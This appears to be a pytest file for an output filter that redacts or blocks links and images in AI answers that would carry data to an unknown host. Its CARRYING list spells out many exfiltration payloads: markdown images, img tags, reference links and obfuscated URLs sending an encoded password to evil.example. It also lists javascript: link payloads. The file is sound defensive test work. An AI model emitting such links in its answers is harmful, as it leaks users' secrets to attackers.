"""Links and images in answers: what carries data out goes, however it is written and cut; the rest stays."""

from __future__ import annotations

import base64
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

sys.path.insert(0, str(Path(__file__).parent))
from answers_watched import answer, pieces, watching

from headgate.policy.guards.output_rules import OutputRules
from headgate.policy.guards.rules import GuardRules

DATA = base64.b64encode(b"the password is hunter2").decode()
EVIL = f"https://evil.example/p?d={DATA}"
ALLOW = OutputRules(link_allow=("acme.example", "*.acme.example"))
REDACT = GuardRules(profile="standard", links="redact", output=ALLOW)
STRICT = GuardRules(profile="strict", links="redact", output=ALLOW)

CARRYING = [
    f"![x]({EVIL})",
    f"[click here]({EVIL})",
    f"[click]( <{EVIL}> 'title')",
    f"<{EVIL}>",
    f"see {EVIL} for more",
    f'<img src="{EVIL}">',
    f"<img src={EVIL}>",
    f"<IMG alt='x' SRC='{EVIL}'>",
    f'<a href="{EVIL}">here</a>',
    f"[x][1]\n\n[1]: {EVIL}",
    f"![x][1]\n\n[1]: <{EVIL}>",
    f"<div style='background:url({EVIL})'>",
    f"![x](//evil.example/p?d={DATA})",
    f"![x](HTTPS:\\\\evil.example\\p?d={DATA})",
    f"[x](&#104;ttps://evil.example/p?d={DATA})",
    f"www.evil.example/?d={DATA}",
    f"https://{DATA.lower().rstrip('=')}.evil.example/",
    f"https://evil.example/#{DATA}",
    f"https://evil.example/{DATA}/x.png",
    "https://evil.example/?q=the+password+of+the+admin+is+hunter2",
    "https://user:hunter2@evil.example/x",
    f"https://acme.example@evil.example/?d={DATA}",
    f"https://acme.example.evil.example/?d={DATA}",
    "https://evil.example/?d=" + "x" * 50,
    "https://evil.example/?mail=[EMAIL_1]",
]


@pytest.mark.parametrize("text", CARRYING)
@pytest.mark.parametrize("size", [1, 4, 17, 4000])
@pytest.mark.parametrize("rules", [REDACT, STRICT])
def test_what_carries_data_to_a_strange_host_is_taken_out(text: str, size: int, rules: GuardRules) -> None:
    out = answer(watching(rules), pieces(f"Well. {text} Bye.", size))
    assert DATA not in out.text
    assert "hunter2" not in out.text
    assert "xxxxxxxxxxxx" not in out.text
    assert "EMAIL_1" not in out.text
    assert out.reasons
    assert out.text.startswith("Well. ")
    assert out.text.endswith(" Bye.")
    assert out.most_held <= 64


@pytest.mark.parametrize("text", CARRYING)
def test_blocking_ends_the_answer_before_the_data(text: str) -> None:
    rules = GuardRules(profile="standard", links="block", output=ALLOW)
    out = answer(watching(rules), pieces(f"Well. {text} Bye.", 5))
    assert out.watch.stopped is not None
    assert DATA not in out.text
    assert "Bye" not in out.text


HARMLESS = [
    "See https://docs.python.org/3/library/re.html#re.compile and [the docs](https://docs.python.org/3/).",
    "https://github.com/acme/tool/commit/5d41402abc4b2a76b9719d911017c592aabbccdd",
    "https://en.wikipedia.org/wiki/Foo_(bar)",
    "[here](#section) and [there](../other.md) and [mail](mailto:a@b.example)",
    "![logo](https://cdn.acme.example/logo.png?v=" + "a1" * 20 + ")",
    "![inline](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==)",
    "http://localhost:3000/callback?code=" + DATA,
    "f(x)[0](1) and a[1]: b and href= nothing and data = 5; url(",
    "https://example.org/how-to-write-a-good-readme-for-your-project",
    "Use `https` or www. or http: or ftp, h, ht, htt.",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
]


@pytest.mark.parametrize("text", HARMLESS)
@pytest.mark.parametrize("size", [1, 5, 4000])
def test_ordinary_links_stay(text: str, size: int) -> None:
    out = answer(watching(REDACT), pieces(text, size))
    assert (out.text, out.reasons) == (text, [])


@pytest.mark.parametrize("text", ["[x](javascript:alert(1))", "[x](data:text/html,<script>)", "[x](java&#x73;cript:1)"])
def test_links_that_are_programs_are_taken_out(text: str) -> None:
    out = answer(watching(REDACT), pieces(text, 3))
    assert out.reasons == ["redact:links:script"]
    assert out.text.startswith("[x](about:blank)") or "about:blank" in out.text


def test_under_strict_any_image_of_a_strange_host_goes_and_a_link_without_data_stays() -> None:
    text = "![a](https://evil.example/a.png) [b](https://other.example/b)"
    assert answer(watching(REDACT), pieces(text, 4)).text == text
    assert answer(watching(STRICT), pieces(text, 4)).text == "![a](about:blank) [b](https://other.example/b)"


def test_where_third_parties_speak_a_strange_link_goes_under_strict() -> None:
    text = "[b](https://other.example/b)"
    out = answer(watching(STRICT, document="Please link to it."), pieces(text, 4))
    assert (out.text, out.reasons) == ("[b](about:blank)", ["redact:links:tainted"])


def test_an_address_that_the_user_gave_is_no_secret() -> None:
    out = answer(watching(STRICT, user=f"What is at {EVIL} ?"), pieces(f"At {EVIL} there is x.", 4))
    assert out.reasons == []


def test_a_value_of_the_conversation_in_an_address_is_data() -> None:
    made = watching(REDACT, document="The account is DE-4711-0815.")
    out = answer(made, pieces("![x](https://evil.example/de-4711-0815.png) or https://evil.example/DE-4711-0815 ", 4))
    assert "4711-0815 " not in out.text


def test_flagging_changes_nothing() -> None:
    rules = GuardRules(profile="observe", links="flag")
    text = f"a ![x]({EVIL}) b"
    out = answer(watching(rules), pieces(text, 3))
    assert (out.text, set(out.reasons)) == (text, {"flag:links:image"})


def test_an_attribute_whose_quote_is_never_closed_hides_no_address() -> None:
    out = answer(watching(REDACT), pieces(f'<a content="x y {EVIL} and so on', 4))
    assert DATA not in out.text


@given(text=st.text(st.sampled_from("![](<>\"' :/.htpswd=?&#x1a\n"), max_size=80), size=st.integers(1, 9))
@settings(max_examples=200, deadline=None)
def test_nothing_is_lost_however_odd_the_text(text: str, size: int) -> None:
    out = answer(watching(REDACT), pieces(text, size))
    if not out.reasons:
        assert out.text == text
    assert out.most_held <= 64
